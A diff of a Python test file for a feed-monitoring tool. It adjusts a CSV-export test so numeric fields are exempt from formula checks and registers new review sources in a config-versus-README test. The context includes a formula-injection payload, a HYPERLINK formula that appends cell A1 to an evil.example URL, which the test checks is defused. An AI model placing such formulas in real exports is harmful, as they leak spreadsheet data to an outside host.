@@ -230,6 +230,9 @@ def test_csv_export_defuses_formulas_from_a_hostile_mention(tmp_path: Path,
     assert rows["5"]["text"] == 'plain words, "quoted"', "harmless text is unchanged"
     for row in rows.values():
         for field, value in row.items():
+            if field in ("sentiment", "priority", "followers") and value:
+                float(value)  # a negative score is a number, not a formula
+                continue
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (field, value)
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click for refund"")"' in raw, "quoted cell"
 
@@ -302,13 +305,16 @@ def test_every_config_key_the_code_reads_is_in_the_readme(tmp_path: Path) -> Non
         from_config({"type": "no-such-type"})
     known = set(str(error.value).split("(known: ")[1].rstrip(")").split(", "))
     modules = {"mastodon": "mastodon", "bluesky": "bluesky", "rss": "feed", "atom": "feed",
-               "feed": "feed", "hn": "hn", "reddit": "reddit", "jsonl": "registry", "sse": "registry"}
+               "feed": "feed", "hn": "hn", "reddit": "reddit", "jsonl": "registry", "sse": "registry",
+               "google": "google_reviews", "trustpilot": "trustpilot", "yelp": "yelp"}
     assert known == set(modules), "a new source type: add it to this test and to the README"
     rows = {line.split("|")[1].strip(): line for line in section.splitlines() if line.startswith("| `")}
     for kind, module in modules.items():
         row = next((line for cells, line in rows.items() if f"`{kind}`" in cells), None)
         assert row is not None, f"no row for type {kind}"
         read = _keys_read_by(ROOT / "tui" / "sources" / f"{module}.py") - {"type", "name"}
+        if module in ("google_reviews", "trustpilot"):  # the keys every review source shares
+            read |= _keys_read_by(ROOT / "tui" / "sources" / "review_base.py") - {"type", "name"}
         assert read, module
         if module == "registry":
             read &= {"path", "url"}  # the registry reads `type` for every table; these are jsonl/sse's
